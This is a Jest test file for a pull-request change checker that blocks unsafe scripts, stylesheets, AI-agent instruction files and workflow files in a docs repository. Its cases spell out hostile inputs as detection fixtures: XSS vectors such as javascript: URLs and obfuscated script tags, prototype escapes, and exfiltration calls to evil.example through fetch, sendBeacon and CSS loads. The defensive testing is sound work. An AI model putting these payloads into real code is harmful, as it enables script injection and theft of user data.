import { describe, expect, test } from '@jest/globals'
import * as nodeModule from 'node:module'
import {
  agentFileNamed,
  isAgentFile,
  neverAllowed,
} from '../../src/shared/change-check/agent-files.js'
import { DEFAULT_ALLOWED_PATHS } from '../../src/shared/change-check/allowed-paths.js'
import { checkChange } from '../../src/shared/change-check/check-change.js'
import type { FileChange, Finding } from '../../src/shared/change-check/change-types.js'
import { tooLarge } from '../../src/shared/change-check/change-check.js'
import type { PullFile } from '../../src/shared/github/pull-change.js'

// Issue #52: what the team allows is judged, what was not read is no pass, and the files that
// steer agents or run with the repository's secrets are never allowed by a broad glob.

const RULES = {
  allowedPaths: [...DEFAULT_ALLOWED_PATHS, 'snippets/**/*.{js,jsx,ts,tsx,css}', '**/*.{js,css}'],
  allowedLinkHosts: ['api.allowed.example', '*.cdn.example'],
}
const COMPONENT = [
  'export const Counter = ({ start }) => {',
  '  const [count, setCount] = useState(start)',
  '  return <button onClick={() => setCount(count + 1)}>{count}</button>',
  '}',
  '',
].join('\n')

/** The findings of a code file added (or changed from `base`) at `path`. */
const judged = (path: string, head: string, base?: string): Promise<Finding[]> =>
  checkChange(
    [{ path, status: base === undefined ? 'added' : 'modified', head, ...(base && { base }) }],
    RULES,
  )
const details = async (path: string, head: string, base?: string): Promise<string[]> =>
  (await judged(path, head, base)).map((f) => `${f.kind} ${f.line}: ${f.detail}`)

const GLOBAL = (name: string) => `\`${name}\`, a global the check does not allow`
const PROTOTYPE = (name: string) =>
  `the property \`${name}\`, which reaches constructors and prototypes`
const BUILT = ['unchecked', 'a URL built in code (`href`)'] as const

describe('a script or component the team allows is held to an allow-list', () => {
  test.each([
    // Every name the code leaves to the page must be a listed built-in, whatever it is called.
    ['document.createElement("script")', 'script', GLOBAL('document')],
    ["document.createElement('scr' + 'ipt')", 'script', GLOBAL('document')],
    ['const d = document', 'script', GLOBAL('document')],
    ['const send = fetch', 'script', GLOBAL('fetch')],
    ['fetch("/api/items")', 'script', GLOBAL('fetch')],
    ['const { eval: run } = window', 'script', GLOBAL('window')],
    ['eval("1")', 'script', GLOBAL('eval')],
    ['new Function("return 1")()', 'script', GLOBAL('Function')],
    ['globalThis.x', 'script', GLOBAL('globalThis')],
    ['new Image().src = "/p.png"', 'script', GLOBAL('Image')],
    ['localStorage.getItem("session")', 'script', GLOBAL('localStorage')],
    ['new WebSocket("wss://evil.example/s")', 'script', GLOBAL('WebSocket')],
    ['new XMLHttpRequest()', 'script', GLOBAL('XMLHttpRequest')],
    ['require("fs")', 'script', GLOBAL('require')],
    ['Reflect.get({}, "x")', 'script', GLOBAL('Reflect')],
    ['atob("eA==")', 'script', GLOBAL('atob')],
    [
      'navigator.sendBeacon("https://evil.example/b", "x")',
      'script',
      GLOBAL('navigator.sendBeacon'),
    ],
    [
      'setTimeout("alert(1)", 10)',
      'script',
      '`setTimeout` given something other than a function written in place',
    ],
    [
      'const later = setTimeout',
      'script',
      '`setTimeout` given something other than a function written in place',
    ],
    ['Math.random = () => 4', 'script', "changes the page's global `Math`"],
    ['name = "x"', 'script', "changes the page's global `name`"],
    // Listed globals only through listed members.
    [
      'Object.getPrototypeOf({})',
      'script',
      '`Object.getPrototypeOf`, a member the check does not allow',
    ],
    ['Object.values({})', 'script', '`Object.values`, a member the check does not allow'],
    [
      'const O = Object',
      'unchecked',
      '`Object` taken as a value: its members reach further than the check allows',
    ],
    [
      'JSON.stringify({}, (k, v) => v)',
      'script',
      '`JSON.stringify` with a replacer, which is handed every value',
    ],
    ['Object.assign([], { a: 1 })', 'script', '`Object.assign` into an object not made in place'],
    // Constructors and prototypes, by any spelling; and names the code computes.
    ['[].map.constructor("alert(1)")()', 'script', PROTOTYPE('constructor')],
    ['const F = [].constructor.constructor', 'script', PROTOTYPE('constructor')],
    ['const { constructor: c } = []', 'script', PROTOTYPE('constructor')],
    ['const o = { __proto__: null }', 'script', PROTOTYPE('__proto__')],
    ['const p = [].__lookupGetter__', 'script', PROTOTYPE('__lookupGetter__')],
    [
      'const k = "prototype"',
      'script',
      'the string "prototype", a key that reaches constructors and prototypes',
    ],
    [
      'const a = [1]; const k = String(1); a[k]',
      'unchecked',
      'a property whose name the code computes',
    ],
    ['const { [String(1)]: x } = {}', 'unchecked', 'a property whose name the code computes'],
    // What React hands a component leads no further than the component.
    ['const go = (e) => e.view', 'script', 'the property `view`, which leads back to the page'],
    [
      'const r = useRef(); r.current.ownerDocument',
      'script',
      'the property `ownerDocument`, which leads back to the page',
    ],
    [
      'const r = useRef(); r.current.innerHTML = "x"',
      'script',
      'the property `innerHTML`, which puts markup into the page',
    ],
    ['const self = this', 'script', '`this` outside a class (in a classic script, the window)'],
    // Imports: React, and files of the repository.
    [
      'import x from "https://evil.example/x.js"',
      'script',
      'an import of "https://evil.example/x.js": only react and files of the repository may be imported',
    ],
    [
      'export * from "//evil.example/x.js"',
      'script',
      'an import of "//evil.example/x.js": only react and files of the repository may be imported',
    ],
    [
      'import x from "lodash"',
      'script',
      'an import of "lodash": only react and files of the repository may be imported',
    ],
    [
      'import x from "../../x.js"',
      'script',
      'an import of "../../x.js": a path outside the repository',
    ],
    ['import x from "./.hidden/x.js"', 'script', 'an import of "./.hidden/x.js": a hidden file'],
    [
      'import { version } from "react"',
      'script',
      '`React.version`, a member the check does not allow',
    ],
    ['import("./x.js")', 'script', 'a dynamic import'],
    ['const u = import.meta.url', 'script', '`import.meta`'],
    // Markup: the page rules, and every URL held to the URL rules whatever builds it.
    ['<script src="https://evil.example/x.js" />', 'script', '<script> element'],
    ['const Tag = "scr" + "ipt"; <Tag src="/x.js" />', 'script', '<script> element'],
    ['React.createElement("iframe", { src: "/x" })', 'script', '<iframe> element'],
    ['React.createElement(String(1))', 'unchecked', 'createElement with a type the code computes'],
    [
      '<div dangerouslySetInnerHTML={{ __html: "x" }} />',
      'script',
      'markup injected through dangerouslySetInnerHTML',
    ],
    ['<iframe srcDoc="<b>x</b>" />', 'script', 'markup injected through srcDoc'],
    [
      '<style>{"a { color: red }"}</style>',
      'script',
      '<style> element (CSS the check does not judge in JSX)',
    ],
    [
      '<Image src="/a.png" />',
      'script',
      "`<Image>`, a component named like the page's global `Image`",
    ],
    ['<a href="javascript:alert(1)">x</a>', 'script', 'a javascript: URL'],
    ['<a href={"java" + "script:alert(1)"}>x</a>', 'script', 'a javascript: URL'],
    ['<a href={["javascript:alert(1)"][0]}>x</a>', 'script', 'a javascript: URL'],
    ['const u = String(1); <a href={u}>x</a>', ...BUILT],
    ['const u = String(1); <a href={`java${u}`}>x</a>', ...BUILT],
    ['const u = String(1); <a href={u + "/x"}>x</a>', ...BUILT],
    [
      'const Link = ({ to }) => <a href={to}>x</a>; <Link to={"java" + "script:x"} />',
      'script',
      'a javascript: URL',
    ],
    ['const p = { href: "javascript:x" }; <a {...p}>x</a>', 'script', 'a javascript: URL'],
    [
      '<link rel="stylesheet" href="https://evil.example/x.css" />',
      'script',
      'a <link> to evil.example',
    ],
    // What a reader typed, sent away in an address or a style.
    [
      'const [v] = useState(""); <img src={"https://evil.example/l?" + v} />',
      'script',
      'a URL to evil.example that the code completes (`src`)',
    ],
    [
      '<div style={{ backgroundImage: "url(https://evil.example/a.png)" }} />',
      'script',
      'CSS that loads from evil.example (a style)',
    ],
    [
      'const [v] = useState(""); <div style={{ background: "url(/a?" + v + ")" }} />',
      'unchecked',
      'a style the code builds (`background`)',
    ],
    [
      'const r = useRef(); r.current.style.setProperty("--x", String(1))',
      'unchecked',
      'a style the code builds (`--x`)',
    ],
    ['const s = String(1); <div style={s} />', 'unchecked', 'a style the code computes'],
    [
      'const r = useRef(); r.current.animate([{ opacity: 0 }], 200)',
      'script',
      'the property `animate`, which sets styles the check cannot judge',
    ],
  ] as const)('%s: %s, %s', async (code, kind, detail) => {
    // A module's imports stand at its top level; the rest in a component.
    const head = /^(import|export) /.test(code)
      ? `${code}\n${COMPONENT}`
      : `${COMPONENT}export const Widget = () => {\n  ${code}\n  return null\n}\n`
    const found = await judged('snippets/widget.jsx', head)
    expect(found.map((f) => [f.kind, f.severity, f.detail])).toContainEqual([kind, 'block', detail])
  })

  test('a component that shows state, handles clicks, maps a list and links its own site or a URL it is given passes', async () => {
    const head = [
      COMPONENT,
      'export const Data = ({ items, href }) => {',
      '  const [open, setOpen] = useState(false)',
      '  useEffect(() => { const t = setTimeout(() => setOpen(false), 100); return () => clearTimeout(t) }, [])',
      '  const rows = (items ?? []).map((item, i) => <li key={item.id}>{i + 1}: {JSON.stringify(item)}</li>)',
      '  return <div className={open ? "a" : "b"} style={{ margin: 0 }}>',
      '    <img src="/logo.png" alt="" style={{ width: `${open ? 50 : 100}%`, background: "url(/bg.png)" }} />',
      '    <a href={href}>More</a><a href={`/guides/${open}`}>Guide</a>',
      '    <ul>{rows}</ul>',
      '  </div>',
      '}',
    ].join('\n')
    expect(await judged('snippets/data.jsx', head)).toEqual([])
  })

  test('a prop of the platform’s component or the file’s own is text; one passed on to an import is a URL', async () => {
    const own = [
      'import { L } from "./l.jsx"',
      'const W = ({ t }) => <b>{t}</b>',
      'const Pass = ({ to }) => <L to={to} />',
      'export const A = ({ n }) => <><Card title={`${n} steps`} /><W t={`${n} items`} /></>',
      'export const B = ({ x }) => <Pass to={"java" + x} />',
    ].join('\n')
    expect(await details('snippets/a.jsx', `${own}\n`)).toEqual([
      'unchecked 5: a URL built in code (`to`)',
    ])
  })

  test('only what the change adds counts: a fetch the base had already is the docs’ own', async () => {
    const base = `${COMPONENT}export const f = () => fetch("https://evil.example/x")\n`
    const head = `// A new comment.\n${base}`
    expect(await judged('snippets/widget.jsx', head, base)).toEqual([])
  })

  test('a link in a component’s markup to a new host warns, as in a page', async () => {
    const head = `export const A = () => <a href="https://elsewhere.example/">x</a>\n`
    expect(await details('snippets/a.jsx', head)).toEqual(['link 1: a link to elsewhere.example'])
  })

  test('a script that does not parse cannot be judged: a finding of its own, naming the line', async () => {
    expect(await details('custom.js', 'const a = 1\nconst = 2\n')).toEqual([
      expect.stringMatching(/^unchecked 2: code that does not parse \(Unexpected token/),
    ])
  })

  test('a classic script is read as one: `with`, and top-level names that replace the page’s', async () => {
    expect(await details('custom.js', 'with (document) { cookie }\nfunction fetch() {}\n')).toEqual(
      [
        `script 1: ${GLOBAL('document')}`,
        `script 1: ${GLOBAL('cookie')}`,
        'script 1: a `with` statement, which hides what its names refer to',
        "script 2: redefines the page's global `fetch`",
      ],
    )
  })
})

describe('TypeScript and TSX', () => {
  const strips = 'stripTypeScriptTypes' in nodeModule
  test('TypeScript is judged as the JavaScript it runs as (Node 24), or is a finding', async () => {
    const head =
      'const url: string = "https://evil.example/x"\nexport const go = (): void => { fetch(url) }\nfetch("https://evil.example/y" as string)\n'
    const found = await details('snippets/go.ts', head)
    expect(found).toEqual(
      strips
        ? [`script 2: ${GLOBAL('fetch')}`, `script 3: ${GLOBAL('fetch')}`]
        : ['unchecked 1: TypeScript, which this Node cannot read (it needs Node 24)'],
    )
  })

  test('TypeScript beyond erasable syntax, and TSX, cannot be judged', async () => {
    const enumFound = await details('snippets/kinds.ts', 'export enum Kind { A, B }\n')
    expect(enumFound).toEqual([expect.stringMatching(/^unchecked 1: TypeScript/)])
    expect(await details('snippets/card.tsx', 'export const Card = () => <div />\n')).toEqual([
      'unchecked 1: TSX, which the check cannot read: a person must review it',
    ])
  })
})

describe('a stylesheet the team allows', () => {
  test.each([
    ['@import "https://evil.example/x.css";', 'CSS that loads from evil.example'],
    ['@IMPORT url(//evil.example/x.css);', 'CSS that loads from evil.example'],
    ['a { background: \\75 rl(https://evil.example/p.png) }', 'CSS that loads from evil.example'],
    ['a { background: url( "https://evil.example/p.png" ) }', 'CSS that loads from evil.example'],
    [
      'a { background: image-set("https://evil.example/a.png" 1x) }',
      'CSS that loads from evil.example',
    ],
    ['a { background: src(var(--x)) }', 'a CSS address left to run time'],
    ['a { width: expression(alert(1)) }', 'CSS expression(), which runs code'],
    ['a { behavior: url(x.htc) }', 'CSS behavior, which runs code'],
    ['a { background: url("javascript:alert(1)") }', 'a javascript: URL in CSS'],
  ])('%s is found: %s', async (css, detail) => {
    const found = await judged('styles/site.css', `body { margin: 0 }\n${css}\n`)
    expect(found.map((f) => [f.kind, f.line, f.detail])).toContainEqual(['script', 2, detail])
  })

  test('local images, fonts, an allowed CDN and a URL in a comment pass', async () => {
    const css = [
      '/* url(https://evil.example/x) */',
      '@font-face { font-family: X; src: url("/fonts/x.woff2") format("woff2") }',
      'a { background: url(images/bg.png), url(https://img.cdn.example/a.png) }',
      'b { background: image-set(linear-gradient(red, blue) 1x) }',
    ].join('\n')
    expect(await judged('styles/site.css', css)).toEqual([])
  })
})

describe('what was not read is no pass', () => {
  const only = async (file: FileChange): Promise<string[]> =>
    (await checkChange([file], { ...RULES, allowedPaths: ['**'] })).map(
      (f) => `${f.kind}: ${f.detail}`,
    )

  test('a binary file that is not a raster image blocks; a raster image is judged by its path', async () => {
    expect(await only({ path: 'fonts/x.woff2', status: 'added', binary: true })).toEqual([
      'unchecked: a binary file, which the check cannot read',
    ])
    expect(await only({ path: 'images/x.png', status: 'added', binary: true })).toEqual([])
  })

  test('a file listed but not read blocks', async () => {
    expect(await only({ path: 'notes.txt', status: 'modified' })).toEqual([
      'unchecked: a file whose text the check did not read',
    ])
    expect(await only({ path: 'notes.txt', status: 'removed' })).toEqual([])
  })
})

describe('files no broad glob allows', () => {
  test.each([
    ['AGENTS.md', ['**/*agents*', '**/*.md', '**']],
    ['docs/CLAUDE.md', ['**/*claude*', '**/*.md']],
    ['GEMINI.md', ['*.md']],
    ['.cursor/rules/style.mdc', ['.cursor/**', '.cursor/rules/*.mdc']],
    ['.claude/settings.json', ['.claude/**']],
    ['.windsurfrules', ['.windsurf*']],
  ])('%s under %j blocks as instructions to AI agents', async (path, globs) => {
    // As such a file is written: a JSON file that does not parse would be `unchecked` as well.
    const head = path.endsWith('.json') ? '{ "note": "Be brief." }\n' : 'Be brief.\n'
    const found = await checkChange([{ path, status: 'added', head }], {
      allowedPaths: globs,
      allowedLinkHosts: [],
    })
    expect(found.map((f) => [f.kind, f.detail])).toEqual([['path', `${path} instructs AI agents`]])
  })

  test('a glob whose last segment names the file allows it', () => {
    expect(agentFileNamed('AGENTS.md', ['AGENTS.md'])).toBe(true)
    expect(agentFileNamed('docs/AGENTS.md', ['**/AGENTS.md'])).toBe(true)
    expect(agentFileNamed('.cursor/rules/style.mdc', ['.cursor/rules/style.mdc'])).toBe(true)
    expect(agentFileNamed('AGENTS.md', ['**/AGENT?.md', '{AGENTS,X}.md', 'docs/AGENTS.md'])).toBe(
      false,
    )
    expect(isAgentFile('guides/agents.mdx')).toBe(false)
    expect(isAgentFile('guides/ai-agents.md')).toBe(false)
    expect(isAgentFile('.mintlify/workflows/nightly.md')).toBe(true)
  })

  test.each([
    '.github/workflows/x.yml',
    '.github/actions/setup/action.yml',
    '.github/CODEOWNERS',
    '.github/dependabot.yml',
    '.GitHub/workflows/x.yml',
    'CODEOWNERS',
    'docs/CODEOWNERS',
  ])('%s blocks whatever allowed-paths says, at either end of a rename', async (path) => {
    expect(neverAllowed(path)).toBeDefined()
    const everything = {
      allowedPaths: ['**', '.github/**', '.GitHub/**', '**/*'],
      allowedLinkHosts: [],
    }
    const added = await checkChange([{ path, status: 'added', head: 'x\n' }], everything)
    expect(added.map((f) => f.kind)).toEqual(['path'])
    const moved = await checkChange(
      [{ path: 'notes/x.yml', previousPath: path, status: 'renamed', head: 'x\n', base: 'x\n' }],
      everything,
    )
    expect(moved.map((f) => f.kind)).toEqual(['path'])
  })

  test('.github/ below the root, and a page named like CODEOWNERS, are other files', () => {
    expect(neverAllowed('examples/.github/workflows/x.yml')).toBeUndefined()
    expect(neverAllowed('guides/codeowners.mdx')).toBeUndefined()
  })
})

describe('a list that may be truncated is too large', () => {
  const files = (n: number, path = (i: number) => `images/${i}.png`): PullFile[] =>
    Array.from({ length: n }, (_, i) => ({
      path: path(i),
      status: 'added',
      previousPath: undefined,
      patch: undefined,
    }))

  test('3000 files or more, a page left unread, or fewer than changed_files', () => {
    expect(tooLarge(files(2999), { complete: true, changedFiles: 2999 })).toBeUndefined()
    expect(tooLarge(files(3000), { complete: true, changedFiles: 3000 })).toBe(
      'the change has 3000 files or more; GitHub lists at most 3000',
    )
    expect(tooLarge(files(10), { complete: false })).toMatch(/10 files or more/)
    expect(tooLarge(files(10), { complete: true, changedFiles: 11 })).toBe(
      'GitHub listed 10 of the 11 files the change has',
    )
  })

  test('text without a diff is read whole, and counts toward what the check reads', () => {
    const text = files(41, (i) => `notes/${i}.txt`)
    expect(tooLarge(text, { complete: true })).toMatch(/41 files to read/)
    expect(tooLarge(files(41), { complete: true })).toBeUndefined()
  })
})
